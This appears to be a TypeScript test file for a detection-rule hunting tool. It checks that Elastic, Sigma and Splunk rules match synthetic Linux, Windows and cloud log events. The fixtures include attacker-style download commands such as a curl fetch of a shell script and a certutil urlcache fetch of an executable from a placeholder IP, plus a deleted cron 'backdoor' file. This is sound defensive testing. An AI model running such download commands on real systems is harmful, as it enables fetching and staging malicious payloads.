/**
 * Linux events and Elastic's own documents in the hunt (`src/hunt/recognise.ts`): a Sysmon for Linux event (the
 * Windows event log's form, channel `Linux-Sysmon/Operational`) is a Linux event, which Sigma's Linux rules read as
 * written and Splunk's searches as the Sysmon for Linux add-on extracts it (`user` from the header's user id,
 * `process_name` cut at the last slash only when the name is word characters or ends with an extension); an ECS document
 * (`ecs.version`) is read by Elastic's rules as written, routed by its data set or by its category on its host's OS, and
 * by Sigma's Windows category rules as pySigma's ecs_windows pipeline converts them (`Image` is `process.executable`,
 * an unmapped field is under `winlog.event_data.`). No Elastic query rule reads Sysmon for Linux (none names its
 * integration's indices). The same results in process, on workers and in DuckDB.
 */
import assert from 'node:assert/strict';
import { rmSync } from 'node:fs';
import path from 'node:path';
import { after, before, describe, it } from 'node:test';
import { elasticAdapter } from '../src/formats/elastic/index.ts';
import { scanSource } from '../src/formats/scan.ts';
import { sigmaAdapter } from '../src/formats/sigma/index.ts';
import { splunkAdapter } from '../src/formats/splunk/index.ts';
import { recogniseLogSources } from '../src/hunt/recognise.ts';
import type { RuleRecord } from '../src/model/rule.ts';
import { elasticDetection, hitKey, huntThreeWays, sigmaDetection, splunkDetection, writeHuntFixture } from './huntThreeWays.ts';

/** A Sysmon for Linux event as its XML renders to JSON (attributes under `#attributes`), with this event data. */
const sysmonLinux = (id: number, data: Record<string, unknown>, userId = '0') => ({
  Event: {
    System: {
      Provider: { '#attributes': { Name: 'Linux-Sysmon', Guid: '{ff032593-a8d3-4f13-b0d6-01fc615a0f97}' } },
      EventID: id,
      Version: 5,
      TimeCreated: { '#attributes': { SystemTime: '2026-01-01T00:00:00.000000000Z' } },
      EventRecordID: 1,
      Channel: 'Linux-Sysmon/Operational',
      Computer: 'web1',
      Security: { '#attributes': { UserId: userId } },
    },
    EventData: { RuleName: '-', UtcTime: '2026-01-01 00:00:00.000', ProcessGuid: '{p}', ProcessId: 300, ...data },
  },
});
const exec = (image: string, commandLine: string, userId?: string) =>
  sysmonLinux(1, { Image: image, CommandLine: commandLine, CurrentDirectory: '/tmp', User: 'www-data', ParentProcessId: 200, ParentImage: '/usr/bin/bash', ParentCommandLine: 'bash', ParentUser: 'www-data', Hashes: '-' }, userId);

/** An Elastic Defend process event (Linux, as its `custom_documentation` names the fields). */
const defend = (name: string, args: readonly string[], os: Record<string, unknown> = { type: 'linux', family: 'debian', platform: 'debian' }) => ({
  '@timestamp': '2026-01-01T00:00:00Z',
  ecs: { version: '8.11.0' },
  agent: { type: 'endpoint' },
  data_stream: { dataset: 'endpoint.events.process', namespace: 'default', type: 'logs' },
  event: { category: ['process'], type: ['start'], action: 'exec', kind: 'event', dataset: 'endpoint.events.process', module: 'endpoint' },
  host: { name: 'web1', os },
  process: { name, executable: `/usr/bin/${name}`, args, command_line: args.join(' '), parent: { name: 'bash', executable: '/usr/bin/bash' } },
  user: { name: 'root', id: '0' },
});

const EVENTS: readonly unknown[] = [
  // 0-3: Sysmon for Linux: curl downloading, a delete of a cron file, apt-get (a name the add-on does not cut), curl by another user id
  exec('/usr/bin/curl', 'curl -O http://198.51.100.1/x.sh'),
  sysmonLinux(23, { Image: '/usr/bin/rm', TargetFilename: '/etc/cron.d/backdoor', User: 'root' }),
  exec('/usr/bin/apt-get', 'apt-get changelog apt'),
  exec('/usr/bin/curl', 'curl -O http://198.51.100.1/y.sh', '1000'),
  // 4-5: Elastic Defend: the same download on Linux, and on a host whose OS is told by its platform only
  defend('curl', ['curl', '-O', 'http://198.51.100.1/x.sh']),
  defend('curl', ['curl', '-O', 'http://198.51.100.1/x.sh'], { platform: 'darwin' }),
  // 6: Auditbeat's auditd module: no host.os, an auditd data set
  { '@timestamp': '2026-01-01T00:00:00Z', ecs: { version: '8.0.0' }, event: { category: 'process', type: ['start'], action: 'executed', module: 'auditd', dataset: 'auditd.log' }, process: { name: 'curl', executable: '/usr/bin/curl', args: ['curl', '-O', 'http://198.51.100.1/x.sh'] } },
  // 7: an integration's document: CloudTrail as Elastic's AWS integration indexes it
  { '@timestamp': '2026-01-01T00:00:00Z', ecs: { version: '8.11.0' }, event: { dataset: 'aws.cloudtrail', action: 'DeleteTrail', provider: 'cloudtrail.amazonaws.com', outcome: 'success' }, aws: { cloudtrail: { user_identity: { type: 'IAMUser' } } } },
  // 8: a heartbeat: an ECS document of no log source a rule reads
  { '@timestamp': '2026-01-01T00:00:00Z', ecs: { version: '8.11.0' }, event: { kind: 'metric', dataset: 'endpoint.metrics' } },
  // 9: Elastic Defend on Windows: certutil fetching a file (Sigma reads it as pySigma's ecs_windows pipeline converts the rule)
  {
    ...defend('certutil.exe', ['certutil.exe', '-urlcache', '-f', 'http://198.51.100.1/a.exe'], { type: 'windows', family: 'windows', platform: 'windows' }),
    process: { name: 'certutil.exe', executable: 'C:\\Windows\\System32\\certutil.exe', command_line: 'certutil.exe -urlcache -f http://198.51.100.1/a.exe', pe: { original_file_name: 'CertUtil.exe' }, parent: { executable: 'C:\\Windows\\System32\\cmd.exe' } },
  },
  // 10: an Elastic Defend alert: read by a rule that names only its integration
  { '@timestamp': '2026-01-01T00:00:00Z', ecs: { version: '8.11.0' }, event: { kind: 'alert', module: 'endpoint', dataset: 'endpoint.alerts', code: 'malicious_file' }, host: { os: { type: 'windows' } } },
];

const elastic = (id: number, name: string, index: string, query: string) => elasticDetection('07', id, name, index, query);

const sigma = (id: number, product: string, category: string, detection: string) => sigmaDetection('07', id, `Sigma ${id}`, { product, category }, detection);

const FILES: Record<string, string> = {
  'elastic/rules/linux/curl.toml': elastic(1, 'Curl Download', 'logs-endpoint.events.process*', 'process where host.os.type == "linux" and event.type == "start" and process.name == "curl" and process.args == "-O"'),
  'elastic/rules/promotions/endpoint.toml': elastic(3, 'Endpoint Alert', 'logs-endpoint.alerts-*', 'any where event.kind == "alert" and event.module == "endpoint"'),
  'elastic/rules/linux/auditd.toml': elastic(2, 'Curl Download (auditd)', 'auditbeat-*', 'process where event.type == "start" and process.name == "curl"'),
  'sigma/rules/linux/curl.yml': sigma(1, 'linux', 'process_creation', '  selection:\n    Image|endswith: /curl\n    CommandLine|contains: " -O "'),
  'sigma/rules/windows/certutil.yml': sigma(3, 'windows', 'process_creation', '  selection:\n    Image|endswith: \\certutil.exe\n    CommandLine|contains: urlcache'),
  // a field the pipeline does not map is read under winlog.event_data, which an Elastic Defend document does not have
  'sigma/rules/windows/certutil_high.yml': sigma(4, 'windows', 'process_creation', '  selection:\n    Image|endswith: \\certutil.exe\n    IntegrityLevel: High'),
  'sigma/rules/linux/cron.yml': sigma(2, 'linux', 'file_event', '  selection:\n    TargetFilename|startswith: /etc/cron.d/'),
  'splunk/detections/endpoint/curl.yml': splunkDetection('07', 1, 'Curl Download', 'Sysmon for Linux EventID 1', '| tstats count from datamodel=Endpoint.Processes where Processes.process_name=curl Processes.user=root by Processes.dest Processes.process | `drop_dm_object_name(Processes)` | where match(process, "(?i)(-O|--output)")'),
  'splunk/detections/endpoint/cron.yml': splunkDetection('07', 2, 'Cron File Deleted', 'Sysmon for Linux EventID 11', '| tstats count from datamodel=Endpoint.Filesystem where Filesystem.action=deleted Filesystem.file_path=/etc/cron* by Filesystem.dest Filesystem.file_name', 'T1070'),
  'splunk/detections/endpoint/aptget.yml': splunkDetection('07', 3, 'Apt-get Changelog', 'Sysmon for Linux EventID 1', '| tstats count from datamodel=Endpoint.Processes where Processes.process_name=apt-get by Processes.dest', 'T1548'),
  'splunk/macros/drop_dm_object_name.yml': "definition: 'rename $object$.* as *'\narguments:\n- object\ndescription: Invented macro.\nname: drop_dm_object_name(1)\n",
};

describe('detwiki hunt: Linux events and Elastic documents', () => {
  let dir: string;
  let rules: readonly RuleRecord[];
  let file: string;
  before(async () => {
    ({ dir, file } = writeHuntFixture('detwiki-linux-', FILES, EVENTS));
    const at = (f: string) => path.join(dir, f);
    rules = [
      ...(await scanSource(elasticAdapter, at('elastic'), { repository: 'test/elastic' })).rules,
      ...(await scanSource(sigmaAdapter, at('sigma'), { repository: 'test/sigma' })).rules,
      ...(await scanSource(splunkAdapter, at('splunk'), { repository: 'test/splunk' })).rules,
    ];
    assert.equal(rules.length, 10);
  });
  after(() => rmSync(dir, { recursive: true, force: true }));

  it('recognises Sysmon for Linux as Linux events, and Elastic documents in their ECS form', () => {
    assert.deepEqual(recogniseLogSources(EVENTS[0]), ['vendor:linux', 'linux.process_creation', 'vendor:linux/sysmon', 'vendor:linux/sysmon-eventlog']);
    assert.deepEqual(recogniseLogSources(EVENTS[1]), ['vendor:linux', 'linux.file', 'vendor:linux/sysmon', 'vendor:linux/sysmon-eventlog']);
    assert.deepEqual(recogniseLogSources(EVENTS[4]), ['vendor:ecs/linux.process_creation', 'vendor:ecs/vendor:elastic/endpoint', 'vendor:ecs/vendor:elastic/logs-endpoint.events.process-*']);
    assert.deepEqual(recogniseLogSources(EVENTS[5]), ['vendor:ecs/macos.process_creation', 'vendor:ecs/vendor:elastic/endpoint', 'vendor:ecs/vendor:elastic/logs-endpoint.events.process-*']);
    assert.deepEqual(recogniseLogSources(EVENTS[6]), ['vendor:ecs/linux.process_creation', 'vendor:ecs/vendor:elastic/auditd', 'vendor:ecs/vendor:elastic/logs-auditd.log-*']);
    assert.deepEqual(recogniseLogSources(EVENTS[7]), ['vendor:ecs/aws.cloudtrail', 'vendor:ecs/vendor:elastic/aws', 'vendor:ecs/vendor:elastic/logs-aws.cloudtrail-*']);
    assert.deepEqual(recogniseLogSources(EVENTS[8]), ['vendor:ecs', 'vendor:ecs/vendor:elastic/endpoint', 'vendor:ecs/vendor:elastic/logs-endpoint.metrics-*']);
    // a Windows document of Elastic Defend (no winlog): Windows by its host, a file event by its category
    assert.deepEqual(recogniseLogSources({ ecs: { version: '8.11.0' }, event: { category: ['file'] }, host: { os: { type: 'windows' } } }), ['vendor:ecs/windows.file']);
    // a network event on macOS has no canonical log source: the endpoint's, as Elastic's vocabulary names it
    assert.deepEqual(recogniseLogSources({ ecs: { version: '8.11.0' }, event: { category: 'network' }, host: { os: { type: 'macos' } } }), ['vendor:ecs/vendor:elastic.endpoint.macos.network']);
    // an alert of Elastic Defend: its integration's and its data stream's (a rule naming only its index reads it)
    assert.deepEqual(recogniseLogSources(EVENTS[10]), ['vendor:ecs', 'vendor:ecs/vendor:elastic/endpoint', 'vendor:ecs/vendor:elastic/logs-endpoint.alerts-*']);
  });

  it('each language reads the form its rules are written for, the same in process, on workers and in DuckDB', async () => {
    const { mem, par, duck, readAs } = await huntThreeWays(rules, file, hitKey);
    const id = (title: string, format: string) => rules.find((r) => r.title === title && r.format === format)!.id;
    const expected = [
      // Sysmon for Linux: Sigma as written; Splunk through the add-on (user is root by the header's user id 0)
      `0 hit ${id('Sigma 1', 'sigma')}`,
      `0 hit ${id('Curl Download', 'splunk')}`,
      `1 hit ${id('Sigma 2', 'sigma')}`,
      `1 hit ${id('Cron File Deleted', 'splunk')}`,
      // 2: apt-get is not cut to its name by the add-on, so process_name=apt-get does not hold
      // 3: the header's user id is not 0: the add-on leaves user empty (the Sigma rule tests no user)
      `3 hit ${id('Sigma 1', 'sigma')}`,
      // Elastic's documents: Elastic's rules only, on Linux by host.os.type or by an auditd data set
      `4 hit ${id('Curl Download', 'elastic')}`,
      `4 hit ${id('Curl Download (auditd)', 'elastic')}`,
      `6 hit ${id('Curl Download (auditd)', 'elastic')}`,
      `9 hit ${id('Sigma 3', 'sigma')}`,
      `10 hit ${id('Endpoint Alert', 'elastic')}`,
    ];
    assert.deepEqual(mem, expected.sort(), mem.join('\n'));
    assert.deepEqual(par, mem);
    assert.deepEqual(duck, mem);
    assert.match(readAs.get(`0 ${id('Curl Download', 'splunk')}`) ?? '', /Sysmon for Linux/);
    assert.equal(readAs.get(`4 ${id('Curl Download', 'elastic')}`), undefined);
    assert.match(readAs.get(`9 ${id('Sigma 3', 'sigma')}`) ?? '', /ecs_windows/);
  });
});
